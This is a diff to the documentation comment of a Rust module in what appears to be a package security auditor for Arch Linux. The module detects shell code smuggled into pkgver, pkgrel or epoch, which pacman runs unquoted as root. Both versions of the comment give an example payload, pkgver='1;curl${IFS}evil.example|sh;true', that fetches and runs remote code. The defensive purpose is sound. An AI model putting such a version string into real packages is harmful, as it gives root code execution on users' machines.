@@ -1,17 +1,18 @@
 //! The package's version as shell code (attack 29 F10). libalpm runs an install script as
 //! `sh -c ". .INSTALL; post_install VERSION"` (`trans.c` `_alpm_runscriptlet`: `". %s; %s %s"`)
-//! with `epoch:pkgver-pkgrel` pasted **unquoted** into the shell's text, and makepkg's
-//! `lint_pkgver` forbids only `:`, `/`, `-` and whitespace in `pkgver` — so
-//! `pkgver='1;curl${IFS}evil.example|sh;true'` with a three-line harmless install file is root
-//! running `curl | sh` on install, upgrade and removal.
+//! with `epoch:pkgver-pkgrel` pasted **unquoted** into the shell's text. Neither side stops
+//! shell code there: makepkg's `check_pkgver` forbids only whitespace, `:`, `/` and `-`, and
+//! the format itself (alpm-pkgver(7), what alpm-types implements) is any ASCII but `:/-<>=` and
+//! whitespace — so `pkgver='1;curl${IFS}evil.example|sh;true'` with a three-line harmless install
+//! file is root running `curl | sh` on install, upgrade and removal. (`pkgrel` and `epoch` are
+//! digits to makepkg's lint, checked the same here at no cost.)
 //!
 //! Class: *a value the package chooses reaches a shell's text*. The version is judged as the
 //! text pacman pastes: every `pkgver`, `pkgrel` and `epoch` the PKGBUILD assigns (anywhere: a
 //! `package()` may set it again before `.PKGINFO` is written), the `.SRCINFO`'s, and the literal
 //! text a `pkgver()` function prints. Any character bash treats specially there (a separator,
 //! an expansion, a quote, a glob, a brace, a comment) is `dangerous`; the versions real
-//! packages carry (alpm-types: alphanumerics and `._+~`, with `:` and `-` as the separators)
-//! have none.
+//! packages carry (alphanumerics and `._+~`, with `:` and `-` as the separators) have none.
 //!
 //! What a `pkgver()` computes at build from the sources (`git describe` and friends) cannot be
 //! read here: the audit does not flag it (it would make every VCS package with an install file
